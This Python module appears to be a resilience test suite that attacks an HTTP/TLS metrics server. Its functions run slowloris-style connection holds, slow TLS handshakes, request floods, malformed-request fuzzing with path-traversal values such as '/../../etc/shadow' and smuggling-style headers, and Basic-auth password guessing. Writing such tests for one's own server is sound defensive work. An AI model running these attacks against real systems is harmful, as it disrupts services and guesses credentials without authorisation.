# SPDX-License-Identifier: Apache-2.0
"""Attacks on HTTP, through TLS where the server speaks TLS."""

from __future__ import annotations

import base64
import contextlib
import random
import select
import socket
import time

from attacks.target import NOTHING_YET, Target, hold, say

IDLE_CONNECTIONS = 2000
SLOW_CONNECTIONS = 500
FLOOD_RATE = 10_000
FLOOD_CONNECTIONS = 64

GET = b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n"


def idle(target: Target, end: float) -> None:
    """Hold 2,000 silent connections."""
    hold(target.connect, IDLE_CONNECTIONS, b"", b"", end)


def slow_requests(target: Target, end: float) -> None:
    """Send requests byte by byte."""
    hold(target.connect, SLOW_CONNECTIONS, b"GET /metrics HTTP/1.1\r\nHost: x\r\nX: ", b"a", end)


def slow_handshakes(target: Target, end: float) -> None:
    """Send the beginning of a TLS ClientHello, then single bytes."""
    hold(target.connect_tcp, SLOW_CONNECTIONS, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", b"\0", end)


def slow_readers(target: Target, end: float) -> None:
    """Send requests and read no answer."""
    with contextlib.ExitStack() as held:
        while time.monotonic() < end:
            with contextlib.suppress(OSError):
                client = held.enter_context(target.connect_tcp())
                client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1024)
                client = held.enter_context(target.start_tls(client))
                client.sendall(8 * GET)
            time.sleep(0.01)


def garbage(target: Target, end: float) -> None:
    """Send random bytes, TLS records, huge heads, odd paths and methods; half-close and reset connections."""
    chance = random.Random(7)
    odd = [
        lambda: chance.randbytes(chance.randrange(4096)) + b"\r\n\r\n",
        lambda: b"\x16\x03\x01" + chance.randbytes(600),
        lambda: b"GET / HTTP/1.1\r\n" + b"".join(b"X-%d: %s\r\n" % (n, 90 * b"a") for n in range(1000)) + b"\r\n",
        lambda: b"GET /" + 1_000_000 * b"a",
        lambda: GET.replace(b"/metrics", chance.choice(PATHS)),
        lambda: GET.replace(b"GET", chance.choice(METHODS)),
        lambda: GET.replace(b"\r\n\r\n", b"\r\nContent-Length: %d\r\n\r\n" % chance.choice([0, 1, 1023, 10**9, -1])),
        lambda: GET.replace(b"\r\n\r\n", b"\r\nTransfer-Encoding: chunked\r\n\r\nffffffff\r\n") + 5000 * b"x",
        lambda: GET[: chance.randrange(len(GET))],
        lambda: 50 * GET,
    ]
    while time.monotonic() < end:
        with contextlib.suppress(OSError), target.connect() as client:
            say(client, chance.choice(odd)(), end=True)
        with contextlib.suppress(OSError), target.connect() as client:
            client.sendall(GET[: chance.randrange(len(GET))])
            client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")


PATHS = (
    b"/../../etc/shadow", b"//metrics", b"/%2e%2e/%00", b"/metrics/..;/", b"/\xff\xfe", b"*", b"http://x/metrics", b"?",
    b"/-/reload", b"/metrics?" + 2000 * b"name[]=x&", b"/" + 500 * b"%25",
)  # fmt: skip
METHODS = (b"POST", b"PUT", b"DELETE", b"TRACE", b"CONNECT", b"OPTIONS", b"PATCH", b"PRI", b"G\x00T", b"get", b"BREW")


def flood(target: Target, end: float) -> None:
    """Send 10,000 requests a second on a few connections without waiting for answers."""
    with contextlib.ExitStack() as held, select.epoll() as epoll:
        clients: dict[int, socket.socket] = {}
        began, sent, answered = time.monotonic(), 0, 0
        while (now := time.monotonic()) < end:
            while len(clients) < FLOOD_CONNECTIONS:
                client = held.enter_context(target.connect())
                client.setblocking(False)
                clients[client.fileno()] = client
                epoll.register(client, select.EPOLLIN)
            due = int((now - began) * FLOOD_RATE) - sent
            for fd in random.sample(list(clients), min(max(due, 0), len(clients))):
                with contextlib.suppress(OSError):
                    sent += clients[fd].send(GET) // len(GET)
            for fd, _ in epoll.poll(0.001):
                try:
                    data = clients[fd].recv(1 << 20)
                except NOTHING_YET:
                    continue
                except OSError:
                    data = b""
                answered += data.count(b"HTTP/1.1 ")
                if not data:
                    clients.pop(fd).close()
        print(f"flood: {sent / (now - began):,.0f} requests a second sent, {answered / (now - began):,.0f} answered")


def connections(target: Target, end: float) -> None:
    """Open connections as fast as one process can, each with one request."""
    while time.monotonic() < end:
        with contextlib.suppress(OSError), target.connect() as client:
            client.sendall(GET)


def guesses(target: Target, end: float) -> None:
    """Send random passwords on eight connections, each after the last refusal."""
    with contextlib.ExitStack() as held:
        clients: list[socket.socket] = []
        while time.monotonic() < end:
            with contextlib.suppress(OSError):
                while len(clients) < 8:
                    clients.append(held.enter_context(target.connect()))
            clients = [client for client in clients if _guesses(client)]


def _guesses(client: socket.socket) -> bool:
    password = base64.b64encode(b"prometheus:" + random.randbytes(9))
    try:
        client.sendall(GET[:-2] + b"Authorization: Basic " + password + b"\r\n\r\n")
        return bool(client.recv(4096))
    except OSError:
        return False


ATTACKS = (idle, slow_requests, slow_handshakes, slow_readers, garbage, flood, connections, guesses)
